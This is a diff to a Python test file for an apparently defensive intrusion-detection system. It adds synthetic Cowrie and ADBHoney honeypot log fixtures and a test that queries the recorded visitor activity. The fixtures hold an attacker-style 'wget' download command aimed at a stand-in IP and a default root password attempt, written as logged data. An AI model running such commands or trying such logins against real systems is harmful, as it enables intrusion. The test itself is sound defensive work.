@@ -17,9 +17,12 @@ from agents.ontology.archive import Archive
 from agents.ontology.query import MAX_QUERY, QueryRefused, QueryRunner, check_query
 from agents.ontology.query_worker import json_cost
 from agents.ontology.service import to_answer
+from agents.sensor.inputs.events import Options
+from agents.sensor.inputs.intake import Intake
+from agents.sensor.inputs.registry import make_parser
 from ontology.fragments import encode
 from ontology.knowledge_base import KnowledgeBase, ontology_path
-from ontology.records import Alert, Query
+from ontology.records import Alert, ObservedData, Query
 
 ALERTS = [
     Alert(
@@ -40,11 +43,23 @@ ALERTS = [
 ]
 
 
+def _left() -> list[ObservedData]:
+    """What a log of Cowrie and one of ADBHoney, read as a sensor reads them, say of visitors."""
+    out: list[ObservedData] = []
+    for kind in ("cowrie", "adbhoney"):
+        intake = Intake(make_parser(kind, Options()), sensor="s")
+        lines = [line.encode() for line in LINES[kind]]
+        records = intake.on_lines(lines, "mark", 1_795_000_000_000_000)
+        out += [record for record in records if isinstance(record, ObservedData)]
+    return out
+
+
 @pytest.fixture(scope="module")
 def runner(tmp_path_factory: pytest.TempPathFactory) -> Iterator[QueryRunner]:
     folder = tmp_path_factory.mktemp("state")
     archive = Archive(folder / "archive")
     archive.add(ALERTS)
+    archive.add(_left())
     with KnowledgeBase([ontology_path()]) as knowledge:
         archive.set_ontology(knowledge.ntriples(), knowledge.version)
     (folder / "query-left-over").mkdir()
@@ -53,6 +68,48 @@ def runner(tmp_path_factory: pytest.TempPathFactory) -> Iterator[QueryRunner]:
     yield runner
     archive.close()
     assert [p.name for p in folder.iterdir()] == ["archive"]
+
+
+COWRIE = {"src_ip": "192.0.2.66", "session": "17", "timestamp": "2026-11-16T17:44:06.000000Z"}
+LINES = {
+    "cowrie": [
+        json.dumps(COWRIE | event)
+        for event in (
+            {"eventid": "cowrie.session.connect", "src_port": 5, "dst_ip": "172.17.0.3"}
+            | {"dst_port": 2222, "protocol": "ssh"},
+            {"eventid": "cowrie.client.kex", "hassh": "4e066189c3bbeec38c99b1855113733a"},
+            {"eventid": "cowrie.login.failed", "username": "root", "password": "1234"},
+            {"eventid": "cowrie.session.file_download", "url": "http://203.0.113.9/a"}
+            | {"shasum": "0d3c687f"},
+        )
+    ],
+    "adbhoney": [
+        json.dumps(
+            COWRIE
+            | {"eventid": "adbhoney.command.input", "src_ip": "192.0.2.67"}
+            | {"input": "wget http://203.0.113.9/a"}
+        )
+    ],
+}
+
+
+def test_what_visitors_left_can_be_asked_for(runner: QueryRunner) -> None:
+    """Credentials, commands, URLs, hashes and clients, by the host that left them."""
+    of_host = "?o a idps:ObservedData ; idps:hasSource/idps:ipAddress ?who"
+    found = {
+        term: {
+            (row["who"]["value"], row["what"]["value"])
+            for row in rows(runner, f"SELECT ?who ?what {{ {of_host} ; idps:{term} ?what }}")
+        }
+        for term in ("triedCredential", "ranCommand", "askedUrl", "fileHash", "clientFingerprint")
+    }
+    assert found == {
+        "triedCredential": {("192.0.2.66", "root:1234")},
+        "ranCommand": {("192.0.2.67", "wget http://203.0.113.9/a")},
+        "askedUrl": {("192.0.2.66", "http://203.0.113.9/a")},
+        "fileHash": {("192.0.2.66", "0d3c687f")},
+        "clientFingerprint": {("192.0.2.66", "hassh 4e066189c3bbeec38c99b1855113733a")},
+    }
 
 
 def rows(runner: QueryRunner, sparql: str) -> list[dict[str, Any]]:
